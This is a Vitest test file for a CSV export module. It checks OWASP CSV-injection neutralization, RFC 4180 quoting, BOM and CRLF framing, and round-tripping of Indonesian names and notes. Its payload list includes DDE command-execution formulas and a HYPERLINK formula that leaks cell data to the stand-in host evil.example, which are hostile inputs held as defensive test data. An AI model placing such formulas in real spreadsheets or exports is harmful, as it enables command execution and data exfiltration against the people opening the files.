import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { CSV_BOM, csvField, csvRecord, neutralizeFormula, toCsv, type CsvDelimiter } from '@/lib/export';

/** Reads a file back the way a spreadsheet would: BOM stripped, RFC 4180 parsing. */
function reread(text: string, delimiter: CsvDelimiter): string[][] {
  expect(text.startsWith(CSV_BOM)).toBe(true);
  const body = text.slice(1);
  if (body === '') return [];
  const parsed = Papa.parse<string[]>(body, { delimiter, newline: '\r\n', skipEmptyLines: false });
  expect(parsed.errors).toEqual([]);
  // The trailing CRLF after the last record yields one empty line at the end.
  expect(parsed.data.at(-1)).toEqual(['']);
  return parsed.data.slice(0, -1);
}

describe('formula neutralization (OWASP CSV injection)', () => {
  const payloads = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Klik")',
    '+62 812 3456 7890',
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '\t=1+1',
    '\r=1+1',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(A1)',
  ];

  it.each(payloads)('prefixes a quote to %j so Excel shows it as text', (payload) => {
    expect(neutralizeFormula(payload)).toBe(`'${payload}`);
    expect(reread(toCsv([[payload]], ';'), ';')).toEqual([[`'${payload}`]]);
  });

  it('leaves text that does not start with a trigger alone, and numbers (even negative) as numbers', () => {
    for (const safe of ['Dewi Lestari', 'a=b', '1-2', 'IN110088251', "'already quoted", ' =1 (leading space)']) {
      expect(neutralizeFormula(safe)).toBe(safe);
    }
    expect(csvField(-15, ';')).toBe('-15');
    expect(csvField(0, ';')).toBe('0');
    expect(csvField(Number.NaN, ';')).toBe('');
    expect(csvField(null, ';')).toBe('');
    expect(csvField(undefined, ';')).toBe('');
  });

  it('marks as text digits a spreadsheet would change: a leading zero, or more than 15 digits', () => {
    for (const changed of ['081234567890', '00', '0', '3171234567890001', '12345678901234567890']) {
      expect(neutralizeFormula(changed)).toBe(changed.length < 2 ? changed : `'${changed}`);
    }
    // Numbers a spreadsheet keeps exactly stay numbers; digits among other characters are text anyway.
    for (const kept of ['930101', '123456789012345', '0812-3456-7890', '0812 3456 7890', 'IN0812345', '08123x', '']) {
      expect(neutralizeFormula(kept)).toBe(kept);
    }
    expect(csvField('081234567890', ';')).toBe("'081234567890");
  });
});

describe('RFC 4180 quoting and the Excel-friendly frame', () => {
  it('quotes fields holding the delimiter, quotes or line breaks, doubling inner quotes', () => {
    expect(csvField('a;b', ';')).toBe('"a;b"');
    expect(csvField('a,b', ';')).toBe('a,b');
    expect(csvField('a,b', ',')).toBe('"a,b"');
    expect(csvField('a;b', ',')).toBe('a;b');
    expect(csvField('kata "setuju"', ';')).toBe('"kata ""setuju"""');
    expect(csvField('baris 1\nbaris 2', ';')).toBe('"baris 1\nbaris 2"');
    expect(csvField('baris 1\r\nbaris 2', ',')).toBe('"baris 1\r\nbaris 2"');
    expect(csvRecord(['IN1', 3, null, 'x;y'], ';')).toBe('IN1;3;;"x;y"');
  });

  it('starts with a UTF-8 BOM and ends every record with CRLF', () => {
    const text = toCsv(
      [
        ['Tiket', 'Agen'],
        ['IN110088251', 'Dewi'],
      ],
      ';',
    );
    expect(text).toBe('\uFEFFTiket;Agen\r\nIN110088251;Dewi\r\n');
    expect(new TextEncoder().encode(text).slice(0, 3)).toEqual(new Uint8Array([0xef, 0xbb, 0xbf]));
  });

  it('writes an empty set as the BOM alone, and a header-only file as one line', () => {
    expect(toCsv([], ';')).toBe(CSV_BOM);
    expect(reread(toCsv([['Tiket', 'Agen']], ','), ',')).toEqual([['Tiket', 'Agen']]);
  });

  it('keeps Indonesian names, accents, dashes and emoji intact', () => {
    const names = [
      ['Ni Luh Putu Ayu Setyaningsih', "Siti Nur'aini", 'I Gusti Ngurah Rai'],
      ['Andi Muh. Fadhil – Makassar', 'Théo Sitompul', 'Wayan 🙏 Sudarma'],
    ];
    for (const delimiter of [';', ','] as const) expect(reread(toCsv(names, delimiter), delimiter)).toEqual(names);
  });

  it('carries notes with newlines, quotes and both delimiters through a re-read unchanged', () => {
    const note = 'Pelanggan bilang: "besok saja; jam 10, ya"\r\nTeknisi: ok\nCatatan akhir';
    for (const delimiter of [';', ','] as const) {
      expect(reread(toCsv([['catatan'], [note]], delimiter), delimiter)).toEqual([['catatan'], [note]]);
    }
  });

  it('round-trips any text: what a spreadsheet re-reads is the input, neutralized', () => {
    const cell = fc.string({ unit: 'grapheme', maxLength: 30 });
    fc.assert(
      fc.property(fc.array(fc.array(cell, { minLength: 1, maxLength: 6 }), { minLength: 1, maxLength: 8 }), fc.constantFrom<CsvDelimiter>(';', ','), (rows, delimiter) => {
        const width = rows[0]!.length;
        const table = rows.map((row) => Array.from({ length: width }, (_, i) => row[i] ?? ''));
        // A record of one empty field is an empty line, which no CSV reader can tell from nothing.
        fc.pre(table.every((row) => row.length > 1 || row[0] !== ''));
        expect(reread(toCsv(table, delimiter), delimiter)).toEqual(table.map((row) => row.map(neutralizeFormula)));
      }),
      { numRuns: 300 },
    );
  });
});
